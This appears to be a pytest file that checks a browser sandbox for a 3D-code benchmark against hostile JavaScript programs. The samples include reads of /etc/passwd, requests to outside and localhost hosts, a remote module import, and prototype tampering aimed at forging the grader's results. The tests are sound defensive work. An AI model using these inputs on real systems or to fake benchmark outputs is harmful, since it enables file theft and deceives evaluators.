"""Hostile programs, each followed by a normal program in the same browser.

After every hostile program the next normal program must still run correctly: same status,
same triangle count and bounding box as the reference run, nothing leaked in between.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from code3dbench.sandbox.limits import ExecutionLimits
from code3dbench.sandbox.result import ExecutionResult, ExecutionStatus
from tests.conftest import run_batch
from tests.recording_server import recording_server

# The normal program: it also reports anything a previous program may have left behind.
NORMAL = """
function buildObject() {
  console.log('leftovers:', typeof window.__leak, String(window.localStorage && (() => {
    try { return localStorage.getItem('leak'); } catch (e) { return 'storage blocked'; } })()),
    typeof THREE.Mesh.prototype.__tampered);
  const group = new THREE.Group();
  const body = new THREE.Mesh(new THREE.BoxGeometry(2, 1, 1), new THREE.MeshStandardMaterial({ color: 0x3366cc }));
  const top = new THREE.Mesh(new THREE.ConeGeometry(0.5, 1, 8), new THREE.MeshStandardMaterial({ color: 0xcc3333 }));
  top.position.y = 1;
  group.add(body, top);
  return group;
}
"""

BOX = "new THREE.Mesh(new THREE.BoxGeometry(1, 1, 1), new THREE.MeshStandardMaterial())"

# A program that keeps the page busy for a while, so asynchronous requests get their chance.
BUSY_WAIT = "const until = performance.now() + 600; while (performance.now() < until) {}"

HOSTILE = {
    "infinite_loop_in_build": "function buildObject() { for (;;) {} }",
    "infinite_loop_top_level": "while (true) {}\nfunction buildObject() { return null; }",
    "memory_bomb": (
        "function buildObject() {\n  const hoard = [];\n"
        "  for (;;) hoard.push({ a: new Array(1000).fill(Math.random()) });\n}\n"
    ),
    "typed_array_bomb": (
        "function buildObject() {\n  const hoard = [];\n"
        "  for (let i = 0; i < 4096; i++) hoard.push(new Float64Array(1 << 27));\n"
        f"  return {BOX};\n}}\n"
    ),
    "huge_geometry": (
        "function buildObject() {\n  const n = 300000;\n"
        "  const positions = new Float32Array(n * 9);\n"
        "  for (let i = 0; i < positions.length; i++) positions[i] = Math.random();\n"
        "  const g = new THREE.BufferGeometry();\n"
        "  g.setAttribute('position', new THREE.BufferAttribute(positions, 3));\n"
        "  return new THREE.Mesh(g, new THREE.MeshStandardMaterial());\n}\n"
    ),
    "nan_coordinates": (
        f"function buildObject() {{ const m = {BOX}; m.position.x = NaN; return m; }}"
    ),
    "infinity_coordinates": (
        "function buildObject() {\n  const g = new THREE.BufferGeometry();\n"
        "  g.setAttribute('position', new THREE.Float32BufferAttribute([0,0,0, 1,0,0, 0,Infinity,0], 3));\n"
        "  return new THREE.Mesh(g, new THREE.MeshStandardMaterial());\n}\n"
    ),
    "network_outside": (
        "const attempts = [];\n"
        "try { fetch('http://example.com/x').catch(e => console.log('fetch failed')); } catch (e) { attempts.push('fetch threw'); }\n"
        "try { const x = new XMLHttpRequest(); x.open('GET', 'https://example.com/', false); x.send(); "
        "console.log('XHR STATUS', x.status); } catch (e) { attempts.push('xhr threw'); }\n"
        "try { new WebSocket('wss://example.com/socket'); } catch (e) { attempts.push('ws threw'); }\n"
        "import('https://example.com/evil.js').catch(() => console.log('import failed'));\n"
        "const img = new Image(); img.src = 'https://example.com/pixel.png';\n"
        f"function buildObject() {{ {BUSY_WAIT} console.log(attempts.join(',')); return {BOX}; }}\n"
    ),
    "network_localhost": (
        "const base = 'http://127.0.0.1:{port}';\n"
        "try { fetch(base + '/fetch').catch(() => {}); } catch (e) {}\n"
        "try { const x = new XMLHttpRequest(); x.open('GET', base + '/xhr', false); x.send(); "
        "console.log('LOCAL XHR', x.status, x.responseText); } catch (e) { console.log('xhr blocked'); }\n"
        "try { new WebSocket('ws://127.0.0.1:{port}/ws'); } catch (e) {}\n"
        "try { new EventSource(base + '/sse'); } catch (e) {}\n"
        "try { navigator.sendBeacon(base + '/beacon', 'x'); } catch (e) {}\n"
        "import(base + '/module.js').catch(() => {});\n"
        "const img = new Image(); img.src = 'http://localhost:{port}/img.png';\n"
        "const frame = document.createElement('iframe'); frame.src = base + '/frame'; document.body.appendChild(frame);\n"
        "try { new Worker(base + '/worker.js'); } catch (e) {}\n"
        "try { new Worker(URL.createObjectURL(new Blob(['fetch(\"' + base + '/from-worker\")']))); } catch (e) {}\n"
        f"function buildObject() {{ {BUSY_WAIT} return {BOX}; }}\n"
    ),
    "file_reads": (
        "let leaked = '';\n"
        "try { const x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', false); x.send(); "
        "leaked += x.responseText; } catch (e) { console.log('file xhr blocked'); }\n"
        "try { fetch('file:///etc/passwd').then(r => r.text()).then(t => console.log('FILE', t)).catch(() => {}); } catch (e) {}\n"
        "const frame = document.createElement('iframe'); frame.src = 'file:///etc/passwd'; document.body.appendChild(frame);\n"
        f"function buildObject() {{ {BUSY_WAIT} console.log('FILE', leaked); return {BOX}; }}\n"
    ),
    "dialogs": (
        "function buildObject() {\n  alert('hello');\n  const ok = confirm('continue?');\n"
        "  const name = prompt('name?');\n  console.log('dialogs returned', ok, name);\n"
        f"  return {BOX};\n}}\n"
    ),
    # The object is built first, then everything the scaffold might use is replaced.
    "tamper_globals_and_prototypes": (
        "window.__leak = 'set by the previous program';\n"
        "try { localStorage.setItem('leak', 'persisted'); } catch (e) {}\n"
        "function buildObject() {\n"
        f"  const box = {BOX};\n"
        "  THREE.Mesh.prototype.__tampered = true;\n"
        "  Array.prototype.push = function () { throw new Error('push hijacked'); };\n"
        "  Array.prototype.pop = function () { return undefined; };\n"
        "  Object.defineProperty(Array.prototype, '0', { set() { throw new Error('index hijacked'); }, configurable: true });\n"
        "  Object.prototype.toJSON = function () { return 'forged'; };\n"
        '  JSON.stringify = () => \'{"outcome":"extracted","parts":[]}\';\n'
        "  JSON.parse = () => ({});\n"
        "  Reflect.apply = () => { throw new Error('apply hijacked'); };\n"
        "  Function.prototype.call = function () { return null; };\n"
        "  Function.prototype.apply = function () { return null; };\n"
        "  String.prototype.slice = () => 'forged';\n"
        "  String.fromCharCode = () => 'X';\n"
        "  window.btoa = () => 'AAAA';\n"
        "  Math.max = () => 0; Math.min = () => 0; Math.sqrt = () => 0;\n"
        "  Number.isFinite = () => true;\n"
        "  window.eval = () => undefined;\n"
        "  Object.defineProperty(window, 'c3dRender', { value: { fromParts: () => ({}) } });\n"
        "  window.__c3dExtractor = { build: () => 'returned', extract: () => ({ outcome: 'extracted', parts: [] }) };\n"
        "  HTMLCanvasElement.prototype.toDataURL = () => 'data:image/png;base64,AAAA';\n"
        "  WebGL2RenderingContext.prototype.readPixels = function () {};\n"
        "  return box;\n}\n"
    ),
    "forged_geometry_getters": (
        "function buildObject() {\n"
        f"  const m = {BOX};\n"
        "  Object.defineProperty(m.geometry.attributes.position, 'count', { get: () => 3 });\n"
        "  return m;\n}\n"
    ),
    "never_resolving_promise": (
        "new Promise(() => {});\n"
        "const pending = new Promise(() => {});\n"
        "function buildObject() { pending.then(() => {}); return pending; }\n"
    ),
    "timers_left_running": (
        "setInterval(() => { window.__leak = 'timer'; console.log('tick'); }, 1);\n"
        "setTimeout(() => { for (;;) {} }, 2000);\n"
        "requestAnimationFrame(function again() { requestAnimationFrame(again); });\n"
        f"function buildObject() {{ return {BOX}; }}\n"
    ),
    "console_flood": (
        "function buildObject() {\n"
        "  const line = 'x'.repeat(1000);\n"
        "  for (let i = 0; i < 5000; i++) console.log(i, line);\n"
        f"  return {BOX};\n}}\n"
    ),
    "navigates_away": (
        "location.href = 'http://example.com/';\n"
        f"function buildObject() {{ {BUSY_WAIT} return {BOX}; }}\n"
    ),
    "destroys_the_document": (
        "document.documentElement.remove();\n"
        "document.open(); document.write('<h1>gone</h1>'); document.close();\n"
        f"function buildObject() {{ return {BOX}; }}\n"
    ),
    "closes_the_window": f"window.close();\nfunction buildObject() {{ return {BOX}; }}\n",
}

EXPECTED = {
    "infinite_loop_in_build": "timeout",
    "infinite_loop_top_level": "timeout",
    "memory_bomb": "runtime_error",
    "typed_array_bomb": "runtime_error",
    "huge_geometry": "too_large",
    "nan_coordinates": "invalid_geometry",
    "infinity_coordinates": "invalid_geometry",
    "network_outside": "ok",
    "network_localhost": "ok",
    "file_reads": "ok",
    "dialogs": "ok",
    "tamper_globals_and_prototypes": "ok",
    "forged_geometry_getters": "invalid_geometry",
    "never_resolving_promise": "invalid_output",
    "timers_left_running": "ok",
    "console_flood": "ok",
}

LIMITS = ExecutionLimits(timeout_s=3.0, max_triangles=100_000, memory_mb=256)


@pytest.fixture(scope="module")
def local_server() -> Iterator[tuple[int, list[str]]]:
    with recording_server(b"SECRET FROM LOCALHOST") as served:
        yield served


@pytest.fixture(scope="module")
def runs(
    tmp_path_factory: pytest.TempPathFactory, local_server: tuple[int, list[str]]
) -> dict[str, tuple[ExecutionResult, Path]]:
    port, _ = local_server
    programs = [("reference", NORMAL)]
    for name, code in HOSTILE.items():
        programs.append((name, code.replace("{port}", str(port))))
        programs.append((f"after_{name}", NORMAL))
    return run_batch(programs, tmp_path_factory.mktemp("hostile"), LIMITS)


def _console(result: ExecutionResult) -> str:
    return "\n".join(entry.text for entry in result.console)


@pytest.mark.chromium
@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_hostile_program_status(runs, name: str) -> None:
    result, _ = runs[name]
    assert result.status.value == EXPECTED[name], result.error


@pytest.mark.chromium
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_next_program_is_unaffected(runs, name: str) -> None:
    reference, _ = runs["reference"]
    after, out_dir = runs[f"after_{name}"]
    assert after.status is ExecutionStatus.OK, after.error
    assert (after.triangles, after.vertices, after.meshes) == (
        reference.triangles,
        reference.vertices,
        reference.meshes,
    )
    assert after.bbox == reference.bbox
    assert (out_dir / "object.glb").read_bytes() == (
        runs["reference"][1] / "object.glb"
    ).read_bytes()
    assert "leftovers: undefined null undefined" in _console(after)


@pytest.mark.chromium
def test_pages_that_destroy_themselves_are_reported(runs) -> None:
    for name in ("navigates_away", "destroys_the_document", "closes_the_window"):
        result, _ = runs[name]
        assert result.status is not ExecutionStatus.SANDBOX_ERROR, (name, result.error)
        if result.status is ExecutionStatus.OK:
            assert result.triangles == 12


@pytest.mark.chromium
def test_memory_bomb_reports_the_crash(runs) -> None:
    result, _ = runs["memory_bomb"]
    assert "crashed" in result.error.message
    assert "256 MB" in result.error.message


@pytest.mark.chromium
def test_no_request_reaches_localhost(runs, local_server) -> None:
    _, hits = local_server
    assert hits == []
    assert "SECRET FROM LOCALHOST" not in _console(runs["network_localhost"][0])
    assert "LOCAL XHR 200" not in _console(runs["network_localhost"][0])


@pytest.mark.chromium
def test_no_request_reaches_outside(runs) -> None:
    result, _ = runs["network_outside"]
    assert "XHR STATUS 200" not in _console(result)
    # The WebSocket reaches the interception (the CSP stops the rest first): never an empty list.
    assert result.blocked_requests
    assert all("example.com" in url for url in result.blocked_requests)


@pytest.mark.chromium
def test_files_cannot_be_read(runs) -> None:
    assert "root:" not in _console(runs["file_reads"][0])


@pytest.mark.chromium
def test_tampering_cannot_forge_the_outputs(runs) -> None:
    result, out_dir = runs["tamper_globals_and_prototypes"]
    assert result.triangles == 12
    assert result.bbox is not None and result.bbox.extents == (1.0, 1.0, 1.0)
    png = (out_dir / "render.png").read_bytes()
    assert png.startswith(b"\x89PNG") and len(png) > 2000
    forged, _ = runs["forged_geometry_getters"]
    assert "index" in forged.error.message


@pytest.mark.chromium
def test_dialogs_are_dismissed_without_waiting(runs) -> None:
    result, _ = runs["dialogs"]
    assert "dialogs returned false null" in _console(result)
    assert result.timings_ms["build_ms"] < LIMITS.timeout_s * 1000


@pytest.mark.chromium
def test_console_flood_is_truncated(runs) -> None:
    result, _ = runs["console_flood"]
    assert len(result.console) <= LIMITS.console_entries
    assert sum(len(entry.text) for entry in result.console) <= LIMITS.console_bytes + 100
    # Every one of the 5000 calls is accounted for: most never left the page (it stops sending
    # past the entry and byte budgets), and the runner still learns how many there were.
    assert len(result.console) + result.console_dropped >= 5000
